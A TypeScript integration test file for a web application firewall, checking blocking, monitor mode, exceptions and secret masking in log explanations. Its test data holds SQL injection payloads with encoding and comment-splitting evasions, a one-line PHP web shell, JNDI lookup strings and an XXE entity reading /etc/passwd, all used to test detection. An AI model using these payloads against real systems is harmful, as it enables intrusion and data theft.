import { WafExplanation } from '@edgeloom/contract/waf/explanation.ts';
import { rules } from '@edgeloom/waf-rules/rules.ts';
import { afterAll, describe, expect, test } from 'vitest';
import { eventually } from '../support/assertions/eventually.ts';
import { siteWithWaf, type WafOptions } from '../support/builders/waf.ts';
import { startEdge } from '../support/services/edge.ts';
import { startWafEngine } from '../support/services/waf-engine.ts';

const [edge, engine] = await Promise.all([startEdge(), startWafEngine()]);
afterAll(() => Promise.all([edge.stop(), engine.stop()]));

const withWaf = (over: WafOptions = {}, site: Parameters<typeof edge.site>[0] = {}) => siteWithWaf(edge, over, site);
const ATTACK = '/list?id=1%20union%20all%20select%20name,2%20from%20users';

test('an SQL injection is refused, and its log row names the rule', async () => {
  const { name } = await withWaf();
  const refused = await edge.get(ATTACK, { host: name });
  expect(refused.status).toBe(403);
  const row = await edge.accessLogEntry(refused);
  expect(row).toMatchObject({ cause: 'waf', rule: 'sqli-union-select', status: 403 });
  expect(row['trail']).toMatch(/\|.*waf,403,[\d.]+,sqli-union-select/);
  expect((await edge.get('/list?id=1&q=student+union+elections', { host: name })).status).toBe(200);
});

test('in monitor mode the request passes, and its log row names the rule', async () => {
  const { name } = await withWaf({ mode: 'monitor' });
  const passed = await edge.get(ATTACK, { host: name });
  expect(passed.status).toBe(200);
  expect(await edge.accessLogEntry(passed)).toMatchObject({ cause: 'waf', rule: 'monitor/sqli-union-select' });
});

test('a module that is off inspects nothing', async () => {
  const { name } = await withWaf({ mode: 'off' });
  expect((await edge.get(ATTACK, { host: name })).status).toBe(200);
});

const form = (body: string, contentType = 'application/x-www-form-urlencoded') => ({
  method: 'POST',
  body,
  headers: { 'Content-Type': contentType },
});

test.each([
  ['a query encoded three times', ATTACK.replaceAll('%20', '%252520'), {}],
  ['comments between words', '/?id=1/**/union/**/select/**/1', {}],
  ['full-width letters', '/?id=1%20%EF%BD%95nion%20select%201', {}],
  ['a form', '/', form('id=1+union+select+2,3')],
  ['JSON', '/', form('{"a":{"id":"1 union select 2,3"}}', 'application/json')],
  ['JSON declared as text', '/', form('{"id":"1 union select 2,3"}', 'text/plain')],
  ['repeated JSON keys', '/', form('{"id":"1","id":"1 union select 2,3"}', 'application/json')],
  ['repeated parameters', '/?id=1&id=1%20union%20select%202,3', {}],
  ['an XML attribute', '/', form('<a id="1 union select 2,3"/>', 'text/xml')],
  [
    'a part of a multipart body',
    '/',
    form(
      '--x\r\nContent-Disposition: form-data; name="id"\r\n\r\n1 union select 2,3\r\n--x--',
      'multipart/form-data; boundary=x',
    ),
  ],
  ['a cookie', '/', { headers: { Cookie: 'a=b; id=1%20union%20select%202,3' } }],
  ['a referer', '/', { headers: { Referer: 'http://a.example/?id=1%20union%20select%202,3' } }],
])(
  'the injection is found in %s',
  async (_what, path, options: { headers?: Record<string, string>; method?: string; body?: string }) => {
    const { name } = await withWaf();
    const refused = await edge.get(path, { ...options, host: name });
    expect(refused.status).toBe(403);
    expect((await edge.accessLogEntry(refused))['rule']).toMatch(/^sqli-/);
  },
);

test.each([
  ['a file name that servers run', 'filename="a.php"', 'x', 'files-upload-program'],
  ['a web shell', 'filename="a.txt"', "<?php system($_GET['c']); ?>", 'php-upload-code'],
])('an upload with %s is refused', async (_what, file, content, rule) => {
  const { name } = await withWaf();
  const body = `--x\r\nContent-Disposition: form-data; name="f"; ${file}\r\n\r\n${content}\r\n--x--`;
  const refused = await edge.get('/', { host: name, ...form(body, 'multipart/form-data; boundary=x') });
  expect(refused.status).toBe(403);
  expect(await edge.accessLogEntry(refused)).toMatchObject({ rule });
});

/** The first quote of the JSON ends a string of SQL in double quotes. */
const SPLIT = ['/*', '*/union/*', '*/select/*', '*/password/*', '*/from/*', '*/users-- '];
const SPLIT_OBJECT = JSON.stringify({ '/*': '*/union/*', '*/select/*': '*/password/*', '*/from/*': '*/users-- ' });
const query = (value: string) => ({ target: `/?q=${encodeURIComponent(value)}`, headers: [], body: '' });
test.each([
  ['an array', JSON.stringify(SPLIT)],
  [
    'an array with comments up to the ends of lines',
    `["#","\n union#","\n select#","\n password#","\n from#","\n users#"]`,
  ],
  [
    'an array whose comments begin behind those of lines',
    `["#/*","\n union#","\n select#","\n password#","\n from#","\n users#*/"]`,
  ],
  // MySQL reads --1 as minus minus 1.
  ['an array with a minus minus', JSON.stringify(['/*', '*/--1 union/*', ...SPLIT.slice(2)]) + '\n'],
  [
    'an array with many spaces',
    JSON.stringify([...SPLIT.slice(0, 2), `*/${' '.repeat(8000)}select/*`, ...SPLIT.slice(3)]),
  ],
  ['an array in base64', btoa(JSON.stringify(SPLIT))],
  ['a long array', JSON.stringify([...Array<string>(1000).fill('an item'), ...SPLIT])],
  ['an object', SPLIT_OBJECT],
  ['an object in base64', btoa(SPLIT_OBJECT)],
  ['JSON within JSON', JSON.stringify({ a: JSON.stringify(SPLIT) })],
])('an injection whose words are strings of JSON, with comments between them, is found in %s', async (_what, value) => {
  const [found] = await engine.judge([query(value)]);
  expect(found?.rule).toMatch(/^sqli-/);
});

test.each([
  ['patterns of files', { include: ['src/**/*.ts', 'lib/*'], exclude: ['*/test/*'], accept: '*/*' }],
  ['colours and lines', { colour: '#fff', note: 'a -- b', numbers: ['#1', '#2'] }],
  ['notes', [{ text: '/* select a theme */' }, { text: 'from -- to' }]],
])('a parameter with JSON of %s passes', async (_what, value) => {
  const [compact, spread] = await engine.judge([query(JSON.stringify(value)), query(JSON.stringify(value, null, 2))]);
  expect(compact?.rule).toBeUndefined();
  expect(spread?.rule).toBeUndefined();
});

const LEAKED = '/search/backup.sql';
test.each([
  ['a rule', { disabledRules: ['files-dump'] }],
  ['a category', { disabledCategories: ['files'] }],
  ['a rule everywhere', { exceptions: [{ rule: 'files-dump', path: null, parameter: null }] }],
  ['a category on a path', { exceptions: [{ rule: 'files', path: '/search', parameter: null }] }],
])('%s can be switched off', async (_what, over) => {
  const on = await withWaf();
  expect((await edge.get(LEAKED, { host: on.name })).status).toBe(403);
  const { name } = await withWaf(over);
  expect((await edge.get(LEAKED, { host: name })).status).toBe(200);
});

test('an exception holds for its path and its parameter only', async () => {
  const exceptions = [{ rule: null, path: '/list', parameter: 'ID' }];
  const { name } = await withWaf({ exceptions });
  expect((await edge.get(ATTACK, { host: name })).status).toBe(200);
  expect((await edge.get(ATTACK.replace('/list', '/other'), { host: name })).status).toBe(403);
  expect((await edge.get(ATTACK.replace('id=', 'x='), { host: name })).status).toBe(403);
});

test('an exception with a host holds for requests of this name only', async () => {
  const excepted = await withWaf({
    exceptions: [{ rule: 'sqli', path: null, parameter: null, host: 'www.shop.example' }],
  });
  const { host } = excepted;
  const names = ['www.shop.example', 'api.shop.example'];
  await edge.put(...names.map((name) => ({ ...host, name })));
  expect((await edge.get(ATTACK, { host: 'WWW.shop.example' })).status).toBe(200);
  expect((await edge.get(ATTACK, { host: 'api.shop.example' })).status).toBe(403);
});

test('an exception ends at its time, without a new document', async () => {
  const until = (seconds: number) => ({
    exceptions: [
      { rule: 'sqli', path: null, parameter: null, until: new Date(Date.now() + seconds * 1000).toISOString() },
    ],
  });
  const [ended, lasting] = [await withWaf(until(-60)), await withWaf(until(3600))];
  expect((await edge.get(ATTACK, { host: ended.name })).status).toBe(403);
  expect((await edge.get(ATTACK, { host: lasting.name })).status).toBe(200);
  const ending = await withWaf(until(2));
  await eventually(async () => expect((await edge.get(ATTACK, { host: ending.name })).status).toBe(403));
});

// Regression: the text was inspected under the name of the JSON, to which the exception does not apply.
test('an exception for a parameter holds within JSON that has comments', async () => {
  const exceptions = [{ rule: 'sqli', path: null, parameter: 'content' }];
  const { name } = await withWaf({ exceptions });
  const value = (key: string) =>
    `/?data=${encodeURIComponent(JSON.stringify({ [key]: '1 union /* a */ select password from users' }))}`;
  expect((await edge.get(value('content'), { host: name })).status).toBe(200);
  expect((await edge.get(value('other'), { host: name })).status).toBe(403);
});

test('an exception for a parameter holds for XML elements and attributes of this name', async () => {
  const exceptions = [{ rule: 'sqli', path: null, parameter: 'content' }];
  const { name } = await withWaf({ exceptions });
  const send = (body: string) => edge.get('/', { host: name, ...form(body, 'text/xml') });
  const text = '1 union all select name from users';
  expect((await send(`<a><s:content>${text}</s:content></a>`)).status).toBe(200);
  expect((await send(`<a><b/><content>a<!-- -->${text}</content></a>`)).status).toBe(200);
  expect((await send(`<a s:content = "${text}"/>`)).status).toBe(200);
  expect((await send(`<a><content>a</content>${text}</a>`)).status).toBe(403);
  expect((await send(`<a content="b" d="${text}"/>`)).status).toBe(403);
});

test('a body longer than the limit is inspected at its start, or refused', async () => {
  const long = `a=${'x'.repeat(2000)}&id=1+union+select+2,3`;
  const { name } = await withWaf({ bodyKiB: 1 });
  expect((await edge.get('/', { host: name, ...form(long) })).status).toBe(200);
  const strict = await withWaf({ bodyKiB: 1, largeBodies: 'deny' });
  const refused = await edge.get('/', { host: strict.name, ...form(long) });
  expect(refused.status).toBe(413);
  expect(await edge.accessLogEntry(refused)).toMatchObject({ rule: 'protocol-large-body' });
});

test('a user agent that passed where its category is disabled is refused where the category is on', async () => {
  const requests = [{ target: '/', headers: [['User-Agent', 'gobuster/3.6']] as const, body: '' }];
  const [passed] = await engine.judge(requests, { disabled: ['scanner'] });
  expect(passed?.rule).toBeUndefined();
  const [refused] = await engine.judge(requests);
  expect(refused?.rule).toBe('scanner-gobuster');
});

test('an attack after 250 suspicious values is found by its rule', async () => {
  const suspicious = Array.from({ length: 250 }, (_, i) => `a${i}=${encodeURIComponent("it's a b")}`).join('&');
  const attack = encodeURIComponent("1' union all select name,password,3,4 from users where 1=1 -- ");
  const [alone, late] = await engine.judge([
    { target: `/?${suspicious}`, headers: [], body: '' },
    { target: `/?${suspicious}&q=${attack}`, headers: [], body: '' },
  ]);
  expect(alone?.rule).toBeUndefined();
  expect(late?.rule).toBe('sqli-union-select');
});

test('a rule that refuses without the model is reported before one with a higher score', async () => {
  const attack = encodeURIComponent("1' union all select name,password,3,4 from users where 1=1 -- ");
  const [found] = await engine.judge([{ target: `/\${jndi:ldap://a.example/x}?q=${attack}`, headers: [], body: '' }]);
  expect(found?.rule).toBe('template-jndi');
});

describe('the log row of a finding explains it', () => {
  /** The explanation in the log row of a refused request. */
  async function explanationOf(
    path: string,
    options: { headers?: Record<string, string>; method?: string; body?: string } = {},
    site = {},
    over: WafOptions = {},
  ) {
    const { name } = await withWaf(over, site);
    const refused = await edge.get(path, { ...options, host: name });
    expect(refused.status).toBe(403);
    const text = String((await edge.accessLogEntry(refused))['waf']);
    // oxlint-disable-next-line no-control-regex -- the range is ASCII
    expect(text).toMatch(/^[\x20-\x7e]{2,1536}$/);
    return WafExplanation.parse(JSON.parse(text));
  }
  const matched = ({ excerpt, rules: [rule] }: WafExplanation) => excerpt?.slice(rule?.from ?? 0, rule?.to ?? 0);

  test('by the matched part, its place and name, the rules, the tokens and the decoding', async () => {
    const found = await explanationOf('/?id=1%2520union%2520all%2520select%2520name,2%20from%20users');
    expect(found).toMatchObject({ place: 'query', name: 'id', steps: ['url'] });
    expect(found.rules.map(({ id }) => id)).toEqual(['sqli-union-select', 'sqli-select-from']);
    expect(matched(found)).toMatch(/^union all select/);
    expect(found.tokens?.length).toBe(5);
    expect(JSON.stringify(found.tokens)).not.toContain(String.raw`\u0000`);
    expect(found.points).toBeGreaterThanOrEqual(5);
  });

  test('in monitor mode, too, and a row without a finding has none', async () => {
    const { name } = await withWaf({ mode: 'monitor' });
    const row = await edge.accessLogEntry(await edge.get(ATTACK, { host: name }));
    expect(JSON.parse(String(row['waf']))).toMatchObject({ name: 'id' });
    expect((await edge.accessLogEntry(await edge.get('/?id=1', { host: name })))['waf']).toBe('');
  });

  test.each([
    ['base64', '/?q=MSB1bmlvbiBhbGwgc2VsZWN0IG5hbWUsMiBmcm9tIHVzZXJz', ['base64']],
    ['comments between words', '/?id=1/**/union/**/all/**/select/**/1,2/**/from/**/users', ['comments']],
    ['full-width letters', '/?id=1%20%EF%BD%95nion%20select%201', ['narrow']],
  ])('the decoding of %s is a step', async (_what, path, steps) => {
    const found = await explanationOf(path);
    expect(found.steps).toEqual(steps);
    expect(matched(found)).toMatch(/union/);
  });

  test('bytes that are no printable ASCII are escaped, and the offsets fit the excerpt', async () => {
    const found = await explanationOf(
      `/?id=${'%E4%BD%A0'.repeat(4)}%22)%20union%20all%20select%20name,2%20from%20users%20where%201=1--%20${'%FF'.repeat(900)}`,
    );
    expect(found.excerpt).toMatch(/^(?:\\xE4\\xBD\\xA0){4}"/);
    expect(found.excerpt).toMatch(/(?:\\xFF)+$/);
    expect(matched(found)).toMatch(/^union all select/);
  });

  const UNION = "' union all select name from users";
  const JNDI = '${jndi:ldap://a.example/x}';
  const ENTITY = '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>';
  const field = (name: string) => `Content-Disposition: form-data; name="${name}"`;
  const cookie = (value: string) => ({ headers: { Cookie: `remember_me=${encodeURIComponent(value)}` } });
  const secrets: [what: string, path: string, options: Parameters<typeof explanationOf>[1]][] = [
    ['a password', '/', form('password=hunter2%27%20union%20all%20select%20name%20from%20users')],
    ['a cookie', '/', { headers: { Cookie: 'a=hunter2%27%20union%20all%20select%20name%20from%20users' } }],
    ['the credentials of a header', '/', { headers: { Authorization: "hunter2' union all select name from users" } }],
    ['a path with a token', "/x;token=hunter2/;'%20union%20all%20select%20name%20from%20users", {}],
    ['a number of a card', '/?q=4111%201111%201111%201111%27%20union%20all%20select%20name%20from%20users', {}],
    [
      'a text with a token',
      '/',
      form(`{"q":"{token:'hunter2'} union all select name from users"}`, 'application/json'),
    ],
    ['a web token', "/?q=eyJhbGciOiJIUzI1NiJ9.hunter2.x'%20union%20all%20select%20name%20from%20users", {}],
    ['a bearer token', "/?q=Bearer%20hunter2hunter2'%20union%20all%20select%20name%20from%20users", {}],
    ...['pass1', 'user_pass', 'user[pass]', 'userPass', 'passNew'].map((name): [string, string, object] => [
      `a parameter ${name}`,
      '/',
      form(`${encodeURIComponent(name)}=hunter2${UNION}`),
    ]),
    ['JSON of a secret parameter', '/', form(`token=${encodeURIComponent(`{"a":"hunter2${UNION}"}`)}`)],
    ['JSON of a cookie', '/', cookie(`{"a":"hunter2${UNION}"}`)],
    ['JSON of a cookie that is read as text', '/', cookie(`["hunter2' ${SPLIT.join('","')}"]`)],
    ['base64 of a cookie', '/', cookie(btoa(`hunter2${UNION} where 1=1`))],
    ['an XML element', '/', form(`<login><password>hunter2${UNION}</password></login>`, 'text/xml')],
    ['an XML element with a prefix', '/', form(`<a:b><a:pass>hunter2${UNION}</a:pass></a:b>`, 'text/xml')],
    ['an XML attribute', '/', form(`<user id="1" password = "hunter2${UNION}"/>`, 'text/xml')],
    ['an XML document', '/', form(`${ENTITY}<a><password t="x">hunter2</password></a>`, 'text/xml')],
    ['an XML document, behind an entity', '/', form(`${ENTITY}<a><password>a&lt;hunter2</password></a>`, 'text/xml')],
    ['an XML document, in CDATA', '/', form(`${ENTITY}<a><pin><![CDATA[hunter2]]></pin></a>`, 'text/xml')],
    [
      'the text of a multipart body',
      '/',
      form(`form-data; name="user[pass]"\r\n\r\nhunter2${UNION} -- `, 'text/plain'),
    ],
    ['the credentials of a URL', '/', form(`url=${encodeURIComponent(`http://admin:hunter2@a.example/${JNDI}`)}`)],
    ['a target, behind an encoded ampersand', '/backup.sql?password=a%26hunter2', {}],
    ['a long value that is cut', '/', form(`q=${'a, '.repeat(1000)}password=${'b'.repeat(2100)}hunter2${UNION}`)],
    ['a text with a long secret', '/', form(`q={password:"${'a'.repeat(3800)}hunter2${UNION}"}`)],
  ];
  test.each(secrets)('the secret is masked in %s', async (_what, path, options) => {
    const found = await explanationOf(path, options);
    expect(found.excerpt).toContain('•••');
    expect(JSON.stringify(found)).not.toMatch(/hunter2|1111/);
  });

  // Regression: tokens were those of the secret, too, which can consist of keywords.
  test('the tokens of a text have nothing of a secret within it', async () => {
    const found = await explanationOf('/', form(`q={token:"1${UNION}"} or 2`));
    expect(found.excerpt).toContain('token:"•••"');
    expect(JSON.stringify(found.tokens)).not.toMatch(/union|select|users/);
  });

  // Regression: the excerpt began 2,000 bytes later.
  test("the excerpt of a long text begins near the model's worst window, also at the start of the text", async () => {
    const disabledRules = rules.filter(({ pattern }) => pattern !== null).map(({ id }) => id);
    const found = await explanationOf(
      '/',
      form(`q=1${UNION} where 1=1 union all select 2,3 from users-- ${'apple, '.repeat(900)}`),
      {},
      { paranoia: 4, disabledRules },
    );
    expect(found.rules).toMatchObject([{ id: 'sqli-model' }]);
    expect(found.excerpt).toContain('union all select');
  });

  // Regression: the model saw the attack in a long value, and the row had its rule and an excerpt of the filler.
  test('a finding in a long value names the rule that matches, and shows the attack', async () => {
    const found = await explanationOf('/', form(`q=1${UNION} where 1=1-- ${' aaaa'.repeat(1500)}`));
    expect(found.rules[0]).toMatchObject({ id: 'sqli-union-select' });
    expect(found.excerpt).toContain('union');
  });

  test('all of the credentials of a URL are masked, also of one with several @ and of a long one', async () => {
    for (const credentials of ['admin:hunter2@hunter2', `admin:${'hunter2'.repeat(500)}`]) {
      const found = await explanationOf(
        '/',
        form(`url=${encodeURIComponent(`http://${credentials}@a.example/${JNDI}`)}`),
      );
      expect(found.excerpt).toContain('•••@a.example');
      expect(JSON.stringify(found)).not.toContain('hunter2');
    }
  });

  // Regression: PCRE gave up on the token, so the visitor could hide the whole text.
  test('a long token hides no more than itself', async () => {
    const { excerpt } = await explanationOf('/', form(`q=${'1'.repeat(20)}${UNION} eyJaaaaaaaa${'.a'.repeat(2000)}`));
    expect(excerpt).toContain('union');
  });

  // Regression: each secret was looked for in the text as often as it occurs there.
  test('a text with many secrets that end elsewhere when they are decoded is hidden', async () => {
    const secrets = Array.from({ length: 30 }, (_, i) => `pwd=${i}%26&`).join('');
    const found = await explanationOf('/', form(`q=${encodeURIComponent(`${secrets}${UNION}`)}`));
    expect(found.excerpt).toBe('•••');
  });

  test.each([
    ['query', ATTACK, {}],
    ['query', '/', form('id=1+union+all+select+name+from+users')],
    ['both', '/', { headers: { Referer: 'http://a.example/?id=1%20union%20select%202,3' } }],
  ])('without the excerpt of what a site with the mask %s leaves out', async (logMask, path, options) => {
    const found = await explanationOf(path, options, { logMask });
    expect(found.rules[0]?.id).toMatch(/^sqli-/);
    expect(found).not.toHaveProperty('excerpt');
    expect(found).not.toHaveProperty('name');
    expect(found).not.toHaveProperty('tokens');
  });

  test.each([
    ['query', 'X-Original-URL', `/a?email=ann@example.com${UNION}`, '/a'],
    ['both', 'X-Original-URL', `/a%3Femail=ann@example.com${UNION}`, '/a'],
    ['address', 'X-Forwarded-For', `203.0.113.9${UNION}`, undefined],
    ['both', 'True-Client-IP', `203.0.113.9${UNION}`, undefined],
  ])(
    'with the mask %s, the excerpt of %s has nothing that the log leaves out',
    async (logMask, header, value, excerpt) => {
      const found = await explanationOf('/', { headers: { [header]: value } }, { logMask });
      expect(found.rules[0]?.id).toBe('sqli-union-select');
      expect(found.excerpt).toBe(excerpt);
      expect(found.tokens).toBeUndefined();
    },
  );

  test('a value that a rule finds without the model has the steps of its own decoding', async () => {
    const ofFile = form(
      `--x\r\n${field('f')}; filename="a%2ephp"\r\n\r\nb\r\n--x--`,
      'multipart/form-data; boundary=x',
    );
    expect(await explanationOf('/', ofFile)).toMatchObject({ place: 'filename', steps: ['url'] });
    expect(await explanationOf('/backup%2esql')).toMatchObject({ place: 'target', steps: ['url'] });
    const ofAgent = await explanationOf('/?q=gobuster%252f3.6', { headers: { 'User-Agent': 'gobuster/3.6' } });
    expect(ofAgent).toMatchObject({ place: 'userAgent' });
    expect(ofAgent).not.toHaveProperty('steps');
  });

  test('a mask of addresses leaves the excerpt', async () => {
    expect(matched(await explanationOf(ATTACK, {}, { logMask: 'address' }))).toMatch(/^union/);
  });

  test('a rule about the whole body has no excerpt', async () => {
    const { name } = await withWaf({ bodyKiB: 1, largeBodies: 'deny' });
    const row = await edge.accessLogEntry(await edge.get('/', { ...form('a'.repeat(2000)), host: name }));
    expect(JSON.parse(String(row['waf']))).toEqual({
      place: 'body',
      points: 2,
      rules: [{ id: 'protocol-large-body', points: 2 }],
    });
  });
});
